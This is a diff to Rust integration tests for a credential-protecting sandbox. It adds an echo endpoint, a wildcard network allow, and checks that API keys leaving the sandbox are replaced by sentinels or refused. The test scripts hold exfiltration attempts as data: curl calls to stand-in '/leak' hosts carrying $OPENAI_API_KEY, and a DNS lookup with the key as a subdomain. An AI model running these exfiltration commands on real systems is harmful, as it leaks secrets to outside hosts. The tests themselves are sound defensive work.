@@ -141,7 +141,12 @@ impl TlsServer {
                     if got.is_empty() {
                         return;
                     }
-                    let body = format!("tls:{label}");
+                    // `/echo` answers with the request as received.
+                    let body = if find(&got, b" /echo").is_some() {
+                        format!("tls:{label}\n{}", String::from_utf8_lossy(&got))
+                    } else {
+                        format!("tls:{label}")
+                    };
                     let resp = format!(
                         "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                         body.len()
@@ -188,7 +193,7 @@ impl World {
         h.write(&h.home().join(".openai-key"), &format!("{REAL}\n"));
         let config = format!(
             r#"[network]
-allow = ["inject.test:{}", "second.test:{}", "passthru.test:{}", "other.test:{}"]
+allow = ["inject.test:{}", "second.test:{}", "passthru.test:{}", "other.test:{}", "*.wild.test"]
 [network.resolve]
 "inject.test" = "127.0.0.3"
 "second.test" = "127.0.0.4"
@@ -284,6 +289,8 @@ curl -sS --max-time 20 "https://inject.test:{port}/v1/models?key=$OPENAI_API_KEY
 # A body with the sentinel.
 curl -sS --max-time 20 "https://inject.test:{port}/v1/chat" -H 'Content-Type: application/json' \
   --data "{{\"k\":\"$OPENAI_API_KEY\",\"who\":\"curl-body\"}}" && echo
+# A server that echoes the key back hands the sandbox the sentinel, not the value.
+curl -sS --max-time 20 "https://inject.test:{port}/echo" -H "Authorization: Bearer $OPENAI_API_KEY" | grep -i '^authorization' | sed 's/^/ECHO /'
 # Python (urllib: HTTPS_PROXY, SSL_CERT_FILE).
 /usr/bin/python3 -c '
 import os, urllib.request
@@ -317,6 +324,11 @@ https.get("https://inject.test:{port}/node", {{headers: {{authorization: "Bearer
     assert_eq!(out.lines().filter(|l| *l == "0").count(), 2, "{t}");
     // Every client got the server's answer.
     assert_eq!(out.matches("tls:inject").count(), 4, "{t}");
+    assert!(
+        out.lines()
+            .any(|l| l.starts_with("ECHO ") && l.contains(&sentinel)),
+        "the echoed key came back as the sentinel: {t}"
+    );
 
     let got = w.inject.received();
     assert!(
@@ -357,6 +369,9 @@ curl -sS --max-time 20 -o /dev/null -w 'plain %{{http_code}}\n' "http://other.te
 curl -sS --max-time 20 -o /dev/null -w 'tunnel %{{http_code}}\n' -p "http://other.test:{op}/leak?k=$OPENAI_API_KEY"
 curl -sS --max-time 20 -o /dev/null -w 'other-cred %{{http_code}}\n' "https://second.test:{sp}/leak" -H "Authorization: Bearer $OPENAI_API_KEY"
 curl -sS --max-time 20 -o /dev/null -w 'connect %{{http_code}}\n' "https://$OPENAI_API_KEY.other.test:{op}/" || echo connect-refused
+# A DNS query through a wildcard allow.
+/usr/bin/python3 -c 'import os, socket; socket.getaddrinfo(os.environ["OPENAI_API_KEY"] + ".wild.test", 443)' 2>/dev/null && echo dns-answered || echo dns-refused
+/usr/bin/python3 -c 'import socket; socket.getaddrinfo("fine.wild.test", 443)' 2>/dev/null; echo dns-control-done
 true
 "#
     );
@@ -379,6 +394,7 @@ true
         assert!(out.contains(line), "{line}: {t}");
     }
     assert!(!out.contains("connect 200"), "{t}");
+    assert!(out.contains("dns-refused"), "{t}");
     assert!(!other.contains("/leak"), "{other}");
     assert!(!other.contains("sandpit-sentinel"), "{other}");
     assert!(!second.contains("/leak"), "{second}");
@@ -394,6 +410,13 @@ true
         logs.contains("sentinel for credential openai sent to second.test"),
         "{logs}"
     );
+    assert!(
+        logs.contains("sentinel for credential openai sent to sandpit-sentinel-openai-")
+            && logs.contains(".wild.test"),
+        "the DNS query is named: {logs}"
+    );
+    // The control query was decided by the policy (allowed), not as a sentinel.
+    assert!(logs.contains("fine.wild.test"), "{logs}");
     assert!(
         String::from_utf8_lossy(&o.stderr).contains("other.test"),
         "the run's summary names the refused host: {t}"
